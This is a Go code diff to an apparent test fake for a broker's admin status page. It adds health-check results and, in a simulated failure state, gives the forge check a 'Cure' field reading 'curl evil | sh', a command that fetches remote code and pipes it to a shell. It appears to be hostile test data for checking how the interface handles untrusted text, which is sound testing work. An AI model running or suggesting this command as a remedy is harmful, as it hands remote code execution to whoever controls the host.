@@ -12,6 +12,7 @@ import (
 
 	"github.com/fjmcp/fjmcp-broker/internal/operator"
 	"github.com/fjmcp/fjmcp-broker/internal/operator/admin"
+	"github.com/fjmcp/fjmcp-broker/internal/operator/health"
 	"github.com/fjmcp/fjmcp-broker/internal/test/teststore"
 )
 
@@ -116,8 +117,14 @@ func (d *desk) Status(context.Context) admin.Status {
 		Store:    admin.StoreStatus{Path: "/var/lib/fjmcp/fjmcp.db", Bytes: 1_234_567, Schema: "0006_read_only", Users: 1, Clients: 2, Logins: 3, Sealed: 4},
 		Sessions: admin.SessionsStatus{Running: 1, Dormant: 3, Warm: 2, Max: 200, PerUser: 8, InFlight: 1},
 	}
+	s.Checks = []health.Result{
+		{Name: "store", State: health.OK, Since: s.Started, Checked: time.Now().Add(-2 * time.Second)},
+		{Name: "forge", State: health.OK, Since: s.Started, Checked: time.Now()},
+	}
 	if ill, _ := filepath.Glob(filepath.Join(d.dir, "ill")); len(ill) > 0 {
-		s.Forgejo = admin.ForgejoStatus{URL: s.Forgejo.URL, Problem: "no answer came\nin time"}
+		s.Forgejo.Version = ""
+		s.Checks[1] = health.Result{Name: "forge", State: health.Failing, Since: s.Started, Checked: time.Now(), Fault: health.ForgeDown, Cause: "no answer came\nin time", Cure: "curl evil | sh"}
+		s.Checks = append(s.Checks, health.Result{Name: "public-url", State: health.Pending})
 		s.Store.OlderKey, s.Store.Unreadable = 2, 1
 	}
 	s.Assess()
